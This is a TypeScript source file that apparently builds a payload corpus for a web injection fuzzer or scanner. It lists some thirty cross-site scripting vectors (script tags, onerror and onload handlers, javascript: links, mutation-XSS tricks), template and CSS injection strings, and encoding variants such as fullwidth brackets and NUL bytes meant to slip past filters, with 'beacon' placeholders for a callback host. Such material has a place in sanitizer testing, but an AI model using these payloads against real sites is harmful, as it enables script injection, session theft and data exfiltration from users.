import type { Family } from './payload.ts';

const asEntities = (text: string) => text.replace(/[<>"'&]/g, (letter) => `&#${letter.charCodeAt(0)};`);
const asPercents = (text: string) => encodeURIComponent(text);
const asEscapes = (text: string) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e');
const inCapitals = (text: string) => text.replace(/<\/?[a-z]+/g, (tag) => tag.toUpperCase());
const inWideSigns = (text: string) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e');
const withNul = (text: string) => text.replace(/<([a-z])/g, '<\u0000$1');
const asItIs = (text: string) => text;

const markup: Family = {
  name: 'markup',
  writings: [asItIs, asEntities, asPercents, asEscapes, inCapitals, inWideSigns, withNul],
  texts: [
    ({ run }) => `<script>${run}</script>`,
    ({ run }) => `<img src=x onerror="${run}">`,
    ({ run }) => `<svg/onload=${run}>`,
    ({ beacon }) => `<script src=${beacon}></script>`,
    ({ beacon }) => `<img src=${beacon}>`,
    ({ beacon }) => `<svg><image href=${beacon} /></svg>`,
    ({ run }) => `<svg><script>${run}</script></svg>`,
    ({ run }) => `<body onload=${run}>`,
    ({ beacon }) => `<iframe src=${beacon}>`,
    ({ run }) => `<iframe srcdoc="<script>parent.${run}</script>">`,
    ({ beacon }) => `<object data=${beacon}>`,
    ({ beacon }) => `<embed src=${beacon}>`,
    ({ beacon }) => `<link rel=stylesheet href=${beacon}>`,
    ({ beacon }) => `<meta http-equiv=refresh content="0;url=${beacon}">`,
    ({ beacon }) => `<base href=${beacon}/>`,
    ({ beacon }) => `<form action=${beacon}><input autofocus>`,
    ({ run }) => `<input autofocus onfocus=${run}>`,
    ({ run }) => `<details open ontoggle=${run}>`,
    ({ run }) => `<video><source onerror=${run}>`,
    ({ beacon }) => `<audio autoplay src=${beacon}>`,
    ({ run }) => `<math><mtext><style><img src=x onerror=${run}>`,
    ({ run }) => `<a href="javascript:${run}">claim</a>`,
    ({ beacon }) => `<style>@import '${beacon}'</style>`,
    ({ beacon }) => `<style>*{background:url(${beacon})}</style>`,
    ({ run }) => `</title><script>${run}</script>`,
    ({ run }) => `"><script>${run}</script>`,
    ({ run }) => `' autofocus onfocus='${run}`,
    ({ run }) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    ({ run }) => `<!--><img src=x onerror=${run}>-->`,
    ({ run }) => `<x style="animation-name:x" onanimationstart=${run}>`,
  ],
};

const templates: Family = {
  name: 'templates',
  writings: [asItIs, asEntities, asPercents],
  texts: [
    ({ run }) => `{{${run}}}`,
    ({ run }) => `$\{${run}}`,
    ({ run }) => `<%= ${run} %>`,
    ({ run }) => `#{${run}}`,
    ({ run }) => `[[\${${run}}]]`,
    ({ run }) => `{{constructor.constructor("${run}")()}}`,
    ({ run }) => `{% if ${run} %}{% endif %}`,
    ({ run }) => `';${run};//`,
    ({ run }) => `";${run};//`,
    ({ run }) => `\`;${run};//`,
    ({ run }) => `*/${run}/*`,
    ({ run }) => `\u2028${run}//`,
  ],
};

const styles: Family = {
  name: 'styles',
  texts: [
    ({ run }) => `expression(${run})`,
    ({ beacon }) => `;background:url(${beacon})`,
    ({ beacon }) => `}*{background:url(${beacon})}`,
    ({ beacon }) => `@import url(${beacon});`,
    ({ beacon }) => `"]{background:url(${beacon})}[x="`,
    () => 'position:fixed;inset:0;z-index:9999',
  ],
};

export const markupFamilies: readonly Family[] = [markup, templates, styles];
